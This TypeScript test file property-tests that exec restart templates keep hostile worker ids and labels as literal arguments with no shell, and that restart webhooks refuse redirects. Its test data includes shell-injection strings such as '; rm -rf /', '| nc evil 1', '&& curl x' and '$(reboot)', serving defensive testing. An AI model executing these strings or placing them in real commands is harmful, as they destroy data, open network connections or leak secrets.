import { create } from '@bufbuild/protobuf';
import fc from 'fast-check';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RestartAction, RestartMode, RestartPolicySchema } from '../../gen/hive/v1/policy_pb.js';
import { systemClock } from '../../lib/clock.js';
import { msToDuration } from '../../lib/duration.js';
import { createExecAction, renderArgv, TemplateError } from '../../monitor/actions/exec.js';
import { createWebhookAction } from '../../monitor/actions/webhook.js';
import { effectivePolicy } from '../../monitor/policy.js';
import { silentLog, worker } from '../monitor/support.js';

// Restart actions under hostile worker ids and labels: an exec template is
// argv, so no value can add an argument, start an option or reach a shell;
// a webhook never follows a redirect, least of all to another host.

const template = fc.array(
  fc.oneof(fc.constantFrom('{worker_id}', '{label:pod}', '--unit={label:pod}', 'x{worker_id}y', 'restart', '-n', '{label:ns}'), fc.string({ maxLength: 8 }).map((s) => s.replace(/[{}]/g, ''))),
  { minLength: 1, maxLength: 6 },
);
const hostileValue = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom('$(reboot)', '`id`', '; rm -rf /', 'a b', '"quoted"', "'q'", '| nc evil 1', '&& curl x', '\n--force', '*', '~root', '${HIVE_TOKEN}', '-rf', '--help', ''),
);

describe('exec templates under hostile values (property)', () => {
  it('a substituted value stays inside its one argument and never starts an option', () => {
    fc.assert(
      fc.property(template, hostileValue, hostileValue, hostileValue, (tail, id, pod, ns) => {
        const argv = ['/usr/bin/restart-worker', ...tail];
        let out: string[];
        try {
          out = renderArgv(argv, { workerId: id, labels: { pod, ns } });
        } catch (err) {
          expect(err).toBeInstanceOf(TemplateError);
          return;
        }
        expect(out).toHaveLength(argv.length);
        expect(out[0]).toBe('/usr/bin/restart-worker');
        for (const [i, a] of argv.entries()) {
          // An argument that is exactly a placeholder became exactly that value, never an option or nothing.
          if (a === '{worker_id}') expect(out[i]).toBe(id);
          if (a === '{label:pod}') expect(out[i]).toBe(pod);
          if (/^\{[^}]+\}/.test(a)) expect(out[i].startsWith('-') || out[i] === '').toBe(false);
          if (!a.includes('{')) expect(out[i]).toBe(a);
          expect(out[i].includes('\u0000')).toBe(false);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('runs the program with the values as literal argv, no shell: nothing they say is executed', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'hive-exec-prop-'));
    try {
      const out = join(dir, 'argv.txt');
      const canary = join(dir, 'pwned');
      const script = join(dir, 'record.sh');
      writeFileSync(script, `#!/bin/sh\nfor a in "$@"; do printf '[%s]\\n' "$a" >> "${out}"; done\n`);
      chmodSync(script, 0o755);
      const action = createExecAction({ clock: systemClock, log: silentLog, allow: [script] });
      const labels = { pod: `$(touch ${canary})`, ns: `;touch ${canary}`, q: `\`touch ${canary}\`` };
      const policy = effectivePolicy(
        create(RestartPolicySchema, { mode: RestartMode.ON_STALE, action: RestartAction.EXEC, execArgv: [script, '{label:pod}', '{label:ns}', 'x={label:q}', '{worker_id}'], actionTimeout: msToDuration(5000) }),
        1000,
        'worker',
      );
      const r = await action({ worker: worker({ id: 'gpu-1', labels }), policy, trigger: 'stale', attempt: 1, attemptId: 'rst_1', reason: 'r' }, new AbortController().signal);
      expect(r.ok).toBe(true);
      expect(readFileSync(out, 'utf8').trim().split('\n')).toEqual([`[${labels.pod}]`, `[${labels.ns}]`, `[x=${labels.q}]`, '[gpu-1]']);
      expect(() => readFileSync(canary)).toThrow();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('webhooks and redirects', () => {
  let elsewhere: http.Server;
  let origin: http.Server;
  const elsewhereHits: string[] = [];
  const url = (s: http.Server, path: string) => `http://127.0.0.1:${(s.address() as AddressInfo).port}${path}`;

  beforeAll(async () => {
    elsewhere = http.createServer((req, res) => {
      elsewhereHits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((r) => elsewhere.listen(0, '127.0.0.1', r));
    origin = http.createServer((req, res) => {
      const code = Number(req.url!.slice(1));
      res.writeHead(code, { location: url(elsewhere, `/stolen${req.url}`) });
      res.end();
    });
    await new Promise<void>((r) => origin.listen(0, '127.0.0.1', r));
  });
  afterAll(() => {
    elsewhere.close();
    origin.close();
  });

  it('no redirect status makes the restart webhook go to another host', async () => {
    const action = createWebhookAction({ clock: systemClock, retries: 2 });
    for (const code of [301, 302, 303, 307, 308]) {
      const policy = effectivePolicy(create(RestartPolicySchema, { mode: RestartMode.ON_STALE, action: RestartAction.WEBHOOK, webhookUrl: url(origin, `/${code}`), actionTimeout: msToDuration(2000) }), 1000, 'worker');
      const r = await action({ worker: worker({ id: 'gpu-2' }), policy, trigger: 'stale', attempt: 1, attemptId: 'rst_2', reason: 'r' }, new AbortController().signal);
      expect(r, String(code)).toMatchObject({ ok: false, detail: expect.stringMatching(/redirects are not followed/) });
    }
    expect(elsewhereHits).toEqual([]);
  });
});
